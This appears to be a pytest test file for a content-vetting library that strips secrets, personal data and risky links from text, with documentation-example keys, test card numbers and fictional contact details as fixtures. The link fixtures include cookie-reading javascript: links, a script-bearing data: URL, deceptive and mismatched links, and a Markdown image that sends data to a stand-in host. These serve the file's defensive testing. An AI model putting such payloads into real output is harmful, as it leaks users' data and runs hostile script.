"""Secrets, personal data and risky links are cut out; look-alikes that fail validation stay.

Every secret below is a well-known documentation example or made up for this file.
"""

from __future__ import annotations

import pytest
from sof_vetting import ContentVettingSkill, LinkDetector, PIIDetector, SecretsDetector
from sof_vetting.detectors.links import parse_ip_host

PRIVATE_KEY = (
    "-----BEGIN RSA PRIVATE KEY-----\n"
    "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n"
    "VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK\n"
    "-----END RSA PRIVATE KEY-----"
)
OPENSSH_KEY = (
    "-----BEGIN OPENSSH PRIVATE KEY-----\n"
    "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
    "-----END OPENSSH PRIVATE KEY-----"
)
JWT = ("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwia"
       "WF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c")

SECRETS = {
    "aws access key": ("AWS key AKIAIOSFODNN7EXAMPLE in the docs.", "AKIAIOSFODNN7EXAMPLE",
                       "secret.aws_access_key"),
    "github token": ("token ghp_16C7e42F292c6912E7710c838347Ae178B4a here",
                     "ghp_16C7e42F292c6912E7710c838347Ae178B4a", "secret.github_token"),
    "jwt": (f"Authorization header sample {JWT} end", JWT, "secret.json_web_token"),
    "rsa private key": (f"Key:\n{PRIVATE_KEY}\nEnd of key.", PRIVATE_KEY, "secret.private_key"),
    "openssh private key": (f"{OPENSSH_KEY}\n", OPENSSH_KEY, "secret.private_key"),
    "google api key": ("key=AIzaSyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY", "AIzaSyD-9tSrke72PouQMnMX"
                       "-a7eZSW0jkFMBWY", "secret.token"),
    "anthropic key": ("use sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789 please",
                      "sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789", "secret.token"),
    "bearer header": ("Authorization: Bearer abcdefghijklmnopqrstuvwxyz012345",
                      "abcdefghijklmnopqrstuvwxyz012345", "secret.token"),
    "credentials in url": ("clone https://deploy:s3cr3tpass@git.example.com/repo.git",
                           "s3cr3tpass", "secret.token"),
    "slack webhook": ("https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXX",
                      "XXXXXXXXXXXXXXXXXXXX", "secret.token"),
    "password assignment": ("db password = Tr0ub4dor&3x!", "Tr0ub4dor&3x!", "secret.assignment"),
    "quoted keyword": ('config: api_key = "9f8e7d6c5b4a39281706f5e4d3c2b1a0"',
                       "9f8e7d6c5b4a39281706f5e4d3c2b1a0", "secret.assignment"),
}


@pytest.mark.parametrize("name", sorted(SECRETS))
def test_each_secret_is_cut_out_and_named(name: str) -> None:
    text, secret, detector = SECRETS[name]

    report = ContentVettingSkill().vet([text]).sources[0]

    assert report.verdict == "sanitize"
    assert detector in report.detectors
    assert secret not in report.text
    assert "[secret removed]" in report.text


def test_the_whole_private_key_block_goes_not_only_its_header() -> None:
    report = ContentVettingSkill().vet([f"Before.\n{PRIVATE_KEY}\nAfter."]).sources[0]

    assert report.text == "Before.\n[secret removed]\nAfter."


JWT_HEAD = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0"


@pytest.mark.parametrize("token", [
    f"{JWT_HEAD}.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",  # header.payload.signature
    f"{JWT_HEAD}.",  # unsigned
    JWT_HEAD,
])
def test_a_json_web_token_goes_whole_signature_included(token: str) -> None:
    """detect-secrets' JWT pattern ends lazily, so its match stopped after the second dot
    and the signature stayed in the vetted text."""
    report = ContentVettingSkill().vet([f"token {token} end"]).sources[0]

    assert "secret.json_web_token" in report.detectors
    assert report.text == "token [secret removed] end"


@pytest.mark.parametrize("token, detector", [
    ("sk_live_51HxAbCdEfGhIjKlMnOpQrStUvWxYz0123456789AbCdEfGhIjKl", "secret.stripe_access_key"),
    ("MTIzNDU2Nzg5MDEyMzQ1Njc4.GabcDE.abcdefghijklmnopqrstuvwxyz0123456789AB",
     "secret.discord_bot_token"),
])
def test_a_token_longer_than_its_pattern_goes_whole(token: str, detector: str) -> None:
    """Fixed-length patterns (Stripe's 24 characters, Discord's 27) match only the start of
    today's longer tokens; the rest of the token must not be left behind."""
    report = ContentVettingSkill().vet([f"key {token}, end"]).sources[0]

    assert detector in report.detectors
    assert report.text == "key [secret removed], end"


def test_detect_secrets_plugins_report_with_their_own_names() -> None:
    names = {f.detector for f in SecretsDetector().check(SECRETS["aws access key"][0])}

    assert "secret.aws_access_key" in names


@pytest.mark.parametrize("text", [
    "The commit 3f2a9c1 fixed the tide table.",
    "Set the password to something long; never reuse it.",
    "password: required",
    "The api_key field is optional.",
    "Our office is at 10.5 km from the harbour.",
])
def test_ordinary_text_is_not_a_secret(text: str) -> None:
    assert SecretsDetector().check(text) == []


PII = {
    "email": ("Write to jane.doe+tides@example.org today.", "jane.doe+tides@example.org",
              "pii.email", "[email removed]"),
    "us phone": ("Call (415) 555-2671 after nine.", "(415) 555-2671", "pii.phone",
                 "[phone number removed]"),
    "uk phone": ("Ring +44 20 7946 0958 for tickets.", "+44 20 7946 0958", "pii.phone",
                 "[phone number removed]"),
    "visa": ("Card 4111 1111 1111 1111 on file.", "4111 1111 1111 1111", "pii.card_number",
             "[card number removed]"),
    "amex dashes": ("Amex 3782-822463-10005 expired.", "3782-822463-10005", "pii.card_number",
                    "[card number removed]"),
    "mastercard plain": ("MC 5555555555554444.", "5555555555554444", "pii.card_number",
                         "[card number removed]"),
    "iban grouped": ("Pay to DE89 3704 0044 0532 0130 00 before May.",
                     "DE89 3704 0044 0532 0130 00", "pii.iban", "[IBAN removed]"),
    "iban compact": ("IBAN GB82WEST12345698765432, BIC WEST.", "GB82WEST12345698765432",
                     "pii.iban", "[IBAN removed]"),
    "ssn": ("SSN 123-45-6789 in the form.", "123-45-6789", "pii.ssn", "[SSN removed]"),
}


@pytest.mark.parametrize("name", sorted(PII))
def test_each_kind_of_personal_data_is_replaced(name: str) -> None:
    text, value, detector, replacement = PII[name]

    report = ContentVettingSkill().vet([text]).sources[0]

    assert report.verdict == "sanitize"
    assert detector in report.detectors
    assert report.text == text.replace(value, replacement)


@pytest.mark.parametrize("text", [
    "Card 4111 1111 1111 1112 fails the Luhn check.",       # one digit off
    "Order 1234567890123 shipped.",                          # not Luhn-valid
    "Serial 0000 0000 0000 0000 is a placeholder.",          # no issuer starts with 0
    "IBAN DE89 3704 0044 0532 0130 01 has a bad checksum.",  # mod-97 fails
    "Pay 1,250.00 EUR by 2024-05-01.",
    "The year 1889 and the number 42.",
    "Call 555-0100 (a fictional number).",
    "Write to the harbour office.",
])
def test_numbers_that_fail_validation_are_kept(text: str) -> None:
    assert PIIDetector().check(text) == []


def test_phone_region_setting_reads_national_numbers() -> None:
    gb = PIIDetector(phone_region="GB").check("Ring 020 7946 0958 for tickets.")
    us = PIIDetector(phone_region="US").check("Ring 020 7946 0958 for tickets.")

    assert [f.detector for f in gb] == ["pii.phone"]
    assert us == []


def test_pii_can_be_only_reported() -> None:
    skill = ContentVettingSkill(settings={"actions": {"pii": "report"}})
    text = PII["email"][0]

    report = skill.vet([text]).sources[0]

    assert (report.verdict, report.text) == ("pass", text)
    assert report.reasons()[0]["action"] == "report"


LINKS = {
    "javascript": ("Click javascript:alert(document.cookie) now", "link.dangerous_scheme"),
    "data": ("see data:text/html;base64,PHNjcmlwdD4= here", "link.dangerous_scheme"),
    "userinfo": ("Log in at https://bank.example.com@evil.example/login", "link.deceptive_userinfo"),
    "decimal ip": ("Go to http://2130706433/admin", "link.ip_host"),
    "hex ip": ("Go to http://0x7f.0.0.1/", "link.ip_host"),
    "ipv6": ("Go to http://[::1]:8080/", "link.ip_host"),
    "punycode": ("Visit https://xn--pypal-4ve.com/", "link.idn_homograph"),
    "mixed script": ("Visit https://p\u0430ypal.com/", "link.idn_homograph"),
    "shortener": ("Details at https://bit.ly/3xYz", "link.shortener"),
    "image exfiltration": ("![logo](https://evil.example/p.png?d=secret-data)",
                           "link.image_exfiltration"),
    "mismatched text": ("[https://bank.example.com](https://evil.example/login)",
                        "link.mismatched_text"),
}


@pytest.mark.parametrize("name", sorted(LINKS))
def test_each_risky_link_is_reported_and_cut(name: str) -> None:
    text, detector = LINKS[name]

    report = ContentVettingSkill().vet([text]).sources[0]

    assert report.verdict == "sanitize"
    assert detector in report.detectors
    assert "[link removed]" in report.text


@pytest.mark.parametrize("text, cleaned", [
    ("see [click](javascript:alert(1)) now", "see [link removed] now"),
    ("see ![x](javascript:alert(1) \"t\") now", "see [link removed] now"),
    ("Click javascript:alert(document.cookie) now", "Click [link removed] now"),
    ("(run javascript:void(0)) and [b](https://example.org/(x))",
     "(run [link removed]) and [b](https://example.org/(x))"),
    ("[a](https://bit.ly/3xYz), [b](https://example.org/)",
     "[link removed], [b](https://example.org/)"),
    ("Go to http://2130706433/admin. Or (see javascript:alert(1)).",
     "Go to [link removed]. Or (see [link removed])."),
])
def test_a_cut_link_goes_with_its_markdown_and_parentheses(text: str, cleaned: str) -> None:
    """A URL's parentheses are part of it when balanced, and a risky Markdown link goes
    whole: cutting only up to the first ')' left '[click]([link removed]))' behind."""
    assert ContentVettingSkill().vet([text]).sources[0].text == cleaned


def test_ordinary_links_and_allow_listed_hosts_pass() -> None:
    text = ("Read https://en.wikipedia.org/wiki/Tide and [the docs](https://docs.python.org/3/) "
            "or https://bit.ly/3xYz")

    assert [f.detector for f in LinkDetector().check(text)] == ["link.shortener"]
    assert LinkDetector(allowed_hosts=("bit.ly",)).check(text) == []


@pytest.mark.parametrize("host, address", [
    ("127.0.0.1", "127.0.0.1"), ("2130706433", "127.0.0.1"), ("0x7f.1", "127.0.0.1"),
    ("0177.0.0.1", "127.0.0.1"), ("10.1", "10.0.0.1"), ("[::1]", "::1"),
    ("example.com", None), ("1.2.3.4.5", None), ("256.1.1.1", None),
])
def test_ip_spellings(host: str, address: str | None) -> None:
    parsed = parse_ip_host(host)

    assert (str(parsed) if parsed is not None else None) == address
